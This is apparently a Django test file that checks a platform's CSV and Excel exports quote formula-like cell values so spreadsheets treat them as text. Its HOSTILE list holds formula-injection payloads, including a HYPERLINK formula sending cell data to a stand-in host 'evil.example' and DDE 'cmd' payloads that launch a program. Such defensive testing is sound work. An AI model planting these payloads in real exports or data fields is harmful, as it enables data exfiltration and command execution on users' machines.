"""Every CSV and Excel file the platform writes hands a spreadsheet text, never a formula."""

import csv
import datetime
import io

from django.utils import timezone
from openpyxl import load_workbook

from samverkan.lib.spreadsheets import FORMULA_STARTS, safe_cell, unsafe_cell
from samverkan.orgs.models import Organisation
from samverkan.register import actions as register
from samverkan.register.models import RegisterEntry
from samverkan.test import BaseTestCase
from tests import test_register as register_tests

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1dSUM(1)",
]


def content(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


class SafeCellTest(BaseTestCase):
    def test_it_makes_every_formula_start_inert_and_leaves_the_rest(self):
        for start in FORMULA_STARTS:
            self.assertEqual(safe_cell(start + "1"), "'" + start + "1")
            self.assertEqual(unsafe_cell(safe_cell(start + "1")), start + "1")
        for value in ["Acme AB", "'quoted", 12, -3.5, None, datetime.date(2025, 1, 1)]:
            self.assertEqual(safe_cell(value), value)
        self.assertEqual(unsafe_cell("'quoted"), "'quoted")


class RegisterExportTest(register_tests.RegisterTestCase):
    """The public register's CSV and Excel files, with hostile names on every text."""

    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        company = Organisation.objects.create(name=HOSTILE[1], kind="company", country="SE")
        hostile = cls.collaboration(
            HOSTILE[0],
            HOSTILE[2],
            parties=[cls.skane],
            committees=[cls.rare],
            start=datetime.date(2025, 1, 1),
            company=company,
        )
        cls.start(hostile)
        RegisterEntry.objects.update(preview_until=datetime.date(2020, 1, 1))
        register.publish_due_entries(timezone.localdate())

    def test_the_csv_has_no_cell_a_spreadsheet_would_run(self):
        response = self.client.get("/register/export.csv")
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(body)))
        [row] = [r for r in rows if r["title"].endswith(HOSTILE[0])]
        self.assertEqual(row["title"], "'" + HOSTILE[0])
        self.assertEqual(row["summary"], "'" + HOSTILE[2])
        self.assertEqual(row["companies"], "'" + HOSTILE[1])
        for value in row.values():
            self.assertFalse((value or "").startswith(FORMULA_STARTS), value)

    def test_the_workbook_has_no_formula(self):
        response = self.client.get("/register/export.xlsx")
        sheet = load_workbook(io.BytesIO(content(response))).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row]
        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"])
        self.assertIn("'" + HOSTILE[0], [c.value for c in cells])


class ListExportTest(BaseTestCase):
    def test_the_list_exports_write_text_not_formulas(self):
        for name in HOSTILE:
            Organisation.objects.create(name=name, kind="company", country="SE")
        self.login(self.alice)
        response = self.client.get("/organisations/?format=csv", HTTP_ACCEPT_LANGUAGE="en")
        names = [
            row["Name"]
            for row in csv.DictReader(io.StringIO(content(response).decode("utf-8-sig")))
        ]
        for name in HOSTILE:
            self.assertIn("'" + name, names)
        response = self.client.get("/organisations/?format=xlsx", HTTP_ACCEPT_LANGUAGE="en")
        sheet = load_workbook(io.BytesIO(content(response))).active
        assert sheet is not None
        values = [cell.value for cell in sheet["A"]]
        self.assertFalse([c for c in sheet["A"] if c.data_type == "f"])
        for name in HOSTILE:
            self.assertIn("'" + name, values)
